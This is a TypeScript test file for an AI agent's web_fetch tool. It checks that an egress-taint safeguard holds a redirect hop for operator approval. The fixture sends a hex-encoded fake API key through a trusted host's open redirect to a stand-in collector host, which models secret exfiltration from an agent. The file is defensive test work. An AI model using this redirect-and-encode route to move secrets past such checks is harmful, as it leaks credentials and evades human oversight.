/**
 * L08.1 judges every hop of web_fetch, not only the URL the model wrote: a trusted host's open redirect (a real
 * loopback server answering 302) that points at an untrusted host with a secret candidate in its path is held for
 * the operator before the second hop is sent. An untainted session follows the same redirect, and an approved
 * hold lets it through.
 */
import { afterEach, describe, expect, it } from 'vitest';
import { toolRunContext } from '../support/drivers.js';
import { createWebFetchTool } from '../../src/agent/tools/web-fetch.js';
import { SecretTaint, taintEgressCheck, trustedHosts } from '../../src/agent/egress-taint.js';
import type { OperatorRequest } from '../../src/agent/tools/tool.js';
import { SsrfGuard } from '../../src/net/guard.js';
import { StubResolver } from '../../src/net/resolver.js';
import { EventBus, type Envelope, type EventType } from '../../src/core/events.js';
import { bulwarkError } from '../../src/core/errors.js';
import { err, ok } from '../../src/core/result.js';
import { httpServer, type TestServer } from './helpers.js';

const servers: TestServer[] = [];
afterEach(async () => {
  while (servers.length) await servers.pop()?.close();
});

/** A secret the session saw (not a vault value: no leak list knows it), carried as hex. */
const SECRET = 'sk_live_Zq8vN3kR7tW2yP5mX9cB4dF6';
const CARRIED = Buffer.from(SECRET).toString('hex');

async function setup(decision: 'approve' | 'deny') {
  let port = 0;
  const s = await httpServer((req, _body, res) => {
    if (req.url === '/go') {
      res.writeHead(302, { location: `http://collector.test:${port}/c/${CARRIED}` });
      res.end();
      return;
    }
    res.writeHead(200, { 'content-type': 'text/plain' });
    res.end('collected');
  });
  port = s.port;
  servers.push(s);
  const bus = new EventBus();
  const events: Envelope<EventType>[] = [];
  bus.on('*', (e) => events.push(e));
  const guard = new SsrfGuard({
    bus,
    resolver: new StubResolver({ 'docs.test': [['127.0.0.1']], 'collector.test': [['127.0.0.1']] }),
    config: { allow: [`docs.test:${port}`, `collector.test:${port}`], ports: [80, 443] },
  });
  const taint = new SecretTaint();
  taint.mark('tainted', 'a vault value in a tool result');
  const egress = taintEgressCheck({ taint, trusted: trustedHosts(['docs.test']), bus });
  const asked: OperatorRequest[] = [];
  const ctx = (sessionId: string) =>
    toolRunContext(sessionId, {
      operator: {
        ask: (request) => {
          asked.push(request);
          return Promise.resolve(
            decision === 'approve' ? ok(undefined) : err(bulwarkError('approval.denied', 'the operator denied it')),
          );
        },
      },
    });
  return { s, tool: createWebFetchTool({ guard, egress }), url: `http://docs.test:${port}/go`, ctx, asked, events };
}

describe('L08.1 on web_fetch redirects', () => {
  it('holds the redirect hop that carries a candidate to an untrusted host; denied, that hop is never sent', async () => {
    const { s, tool, url, ctx, asked, events } = await setup('deny');
    const r = await tool.run({ url }, ctx('tainted'));
    expect(r.ok).toBe(false);
    if (r.ok) return;
    expect(r.error.layer).toBe('L08.1');
    expect(r.error.message).toContain('collector.test');
    expect(s.log.map((l) => l.url)).toEqual(['/go']);
    expect(asked).toHaveLength(1);
    expect(asked[0]?.subject['url']).toBe(`http://collector.test:${s.port}/c/${CARRIED}`);
    expect(asked[0]?.reasons.join('\n')).toContain(`path value, decoded as hex: "${SECRET}"`);
    const held = events.filter((e) => e.type === 'security:egress_held').map((e) => e.payload['outcome']);
    expect(held).toEqual(['held', 'denied']);
  });

  it('follows the same redirect for an untainted session, and for a tainted one once the operator approves', async () => {
    const quiet = await setup('deny');
    const r = await quiet.tool.run({ url: quiet.url }, quiet.ctx('clean'));
    expect(r.ok && r.value).toContain('collected');
    expect(quiet.asked).toHaveLength(0);
    expect(quiet.s.log.map((l) => l.url)).toEqual(['/go', `/c/${CARRIED}`]);

    const approved = await setup('approve');
    const a = await approved.tool.run({ url: approved.url }, approved.ctx('tainted'));
    expect(a.ok && a.value).toContain('collected');
    expect(approved.asked).toHaveLength(1);
    expect(approved.s.log.map((l) => l.url)).toEqual(['/go', `/c/${CARRIED}`]);
  });
});
